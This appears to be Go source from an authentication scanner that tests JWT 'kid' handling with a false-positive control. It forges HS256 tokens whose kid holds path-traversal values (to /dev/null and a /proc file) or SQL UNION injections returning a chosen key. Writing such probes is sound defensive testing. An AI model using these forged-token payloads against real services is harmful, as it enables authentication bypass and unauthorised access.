package keys

import (
	"context"
	"fmt"
	"strings"

	"github.com/authprobe/authprobe/internal/jose"
	"github.com/authprobe/authprobe/internal/probe"
	"github.com/authprobe/authprobe/internal/probe/forgery"
)

// kidVariant is a kid value and the HMAC key it makes a vulnerable server
// use.
type kidVariant struct {
	name, kid string
	key       []byte
}

const up = "../../../../../../../../../.."

// kidAttack sends each variant signed HS256 with its key; the first
// accepted twice is reported when a control kid naming nothing, signed
// with the same key, is refused.
func kidAttack(ctx context.Context, p *probe.Pass, t *forgery.Target, rule string, variants []kidVariant, msg string) {
	for _, v := range variants {
		s, err := jose.HMAC("HS256", v.key)
		if err != nil {
			return
		}
		fg := t.Attempt(ctx, "kid "+v.name, func(set map[string]any) (string, error) {
			return signedWith(t.Tok, map[string]any{"kid": v.kid}, []string{"jwk", "jku", "x5u", "x5c"}, set, s)
		})
		if fg == nil {
			continue
		}
		missing := "authprobe-missing-" + forgery.Canary()
		ctlTok, err := signedWith(t.Tok, map[string]any{"kid": missing}, []string{"jwk", "jku", "x5u", "x5c"}, map[string]any{"authprobe": fg.Canary}, s)
		if err != nil {
			return
		}
		if ctl, ok := t.Rejected(ctx, "kid naming no key, same HMAC key", ctlTok); !ok {
			p.Note(fmt.Sprintf("%s: kid %s accepted, but so was a kid naming nothing with the same key (%s): the key does not come from kid", p.Endpoint.Key(), v.name, ctl.Why))
			return
		}
		t.Report(rule, fg, fmt.Sprintf(msg, v.kid),
			fmt.Sprintf("the same token with kid %q (no such key) and the same HMAC key was refused", missing))
		return
	}
}

// hasKid: kid attacks apply to APIs whose tokens name their key.
func hasKid(tok *jose.Token) bool {
	kid, ok := tok.Head["kid"].(string)
	return ok && kid != ""
}

// runKidPath points kid at files whose content authprobe knows.
func (f *family) runKidPath(ctx context.Context, p *probe.Pass) {
	t, ok := start(p, kidPath, hasKid)
	if !ok {
		return
	}
	kidAttack(ctx, p, t, kidPath, []kidVariant{
		{"traversal to /dev/null", up + "/dev/null", nil},
		{"traversal to randomize_va_space", up + "/proc/sys/kernel/randomize_va_space", []byte("2\n")},
	}, "a token whose kid is the path %q, signed HS256 with that file's content, was accepted")
}

// runKidSQL injects a UNION returning a random key into kid.
func (f *family) runKidSQL(ctx context.Context, p *probe.Pass) {
	t, ok := start(p, kidSQL, hasKid)
	if !ok {
		return
	}
	key := strings.TrimPrefix(forgery.Canary(), "authprobe")
	kidAttack(ctx, p, t, kidSQL, []kidVariant{
		{"UNION (quoted)", "authprobe' UNION SELECT '" + key + "'--", []byte(key)},
		{"UNION (quoted, MySQL comment)", "authprobe' UNION SELECT '" + key + "' -- -", []byte(key)},
	}, "a token whose kid is %q, signed HS256 with the key that UNION returns, was accepted")
}
